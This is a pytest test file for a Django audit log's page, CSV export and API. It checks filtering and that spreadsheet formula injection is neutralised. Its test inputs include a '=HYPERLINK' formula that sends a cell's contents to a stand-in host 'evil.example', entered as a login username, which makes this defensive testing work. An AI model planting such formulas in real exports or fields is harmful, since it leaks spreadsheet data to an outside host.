"""The audit log's page, CSV export and API: one FilterSet, and an export that is safe to open in
a spreadsheet."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import transaction
from django.utils import timezone

from governance import audit
from governance.views import csv_cell


def _record(action: str, label: str = "", **changes) -> None:
    with transaction.atomic():
        audit.record(action=action, target_type="test.thing", target_label=label, changes=changes)


def _export(client, query: str = "") -> list[dict]:
    response = client.get(f"/audit/?export=csv{query}")
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(trigger):
    assert csv_cell(f'{trigger}HYPERLINK("http://evil")') == f'\'{trigger}HYPERLINK("http://evil")'
    assert csv_cell("plain") == "plain"
    assert csv_cell(None) == ""


def test_a_formula_typed_as_a_username_stays_text_in_the_export(client, approver):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    client.post("/accounts/login/", {"username": formula, "password": "x"})
    _record("test.event", label="-2+3", note="@SUM(A1:A9)")
    client.force_login(approver)
    rows = _export(client)
    failed = next(row for row in rows if row["action"] == "auth.login.failed")
    assert failed["target_label"] == "'" + formula
    event = next(row for row in rows if row["action"] == "test.event")
    assert event["target_label"] == "'-2+3"
    assert event["changes"].startswith("{")  # JSON of the diff, not a formula
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def events(approver):
    _record("registry.model.created", label="churn")
    _record("registry.model_version.stage_changed", label="churn v2")
    _record("monitoring.monitor.created", label="churn monitor")


def _api_actions(api, query: str) -> list[str]:
    response = api.get(f"/api/v1/audit/events/?{query}")
    assert response.status_code == 200, response.json()
    return [row["action"] for row in response.json()["results"] if row["action"] != "test"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("action=registry.", {"registry.model.created", "registry.model_version.stage_changed"}),
        ("search=monitor", {"monitoring.monitor.created"}),
        ("target_type=test.thing&search=v2", {"registry.model_version.stage_changed"}),
    ],
)
def test_page_export_and_api_filter_alike(client, api_as, approver, events, query, expected):
    client.force_login(approver)
    page = client.get(f"/audit/?{query}").content.decode()
    for action in expected:
        assert action in page
    exported = {row["action"] for row in _export(client, f"&{query}")}
    assert exported == expected
    assert set(_api_actions(api_as(approver), query)) == expected


def test_time_filters_apply_to_page_export_and_api(client, api_as, approver, events):
    client.force_login(approver)
    later = (timezone.now() + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")
    assert _export(client, f"&since={later}") == []
    assert _api_actions(api_as(approver), f"since={later}Z") == []
    assert len(_export(client, f"&until={later}")) >= 3


def test_a_bad_filter_value_is_a_400_naming_it_on_page_and_api(client, api_as, approver):
    client.force_login(approver)
    page = client.get("/audit/?since=yesterday-ish")
    assert page.status_code == 400
    assert "since" in page.content.decode()
    response = api_as(approver).get("/api/v1/audit/events/?since=yesterday-ish")
    assert response.status_code == 400
    assert response.json()["error"]["field"] == "since"


def test_blank_fields_of_the_filter_form_filter_nothing(client, approver, events):
    client.force_login(approver)
    page = client.get("/audit/?action=&actor=&target_type=&since=&until=&search=")
    assert page.status_code == 200
    assert "monitoring.monitor.created" in page.content.decode()


@pytest.mark.parametrize("role", ["viewer", "data_scientist", "approver", "risk_officer", "admin"])
def test_the_profile_describes_only_what_is_built(client, make_user, role):
    client.force_login(make_user(role, username=f"someone-{role}"))
    page = client.get("/accounts/profile/").content.decode()
    roles_section = page.split("<h2>Roles</h2>")[1].split("</ul>")[0]
    assert "promotion" not in roles_section.lower()
    assert "approvals are not built yet" in page
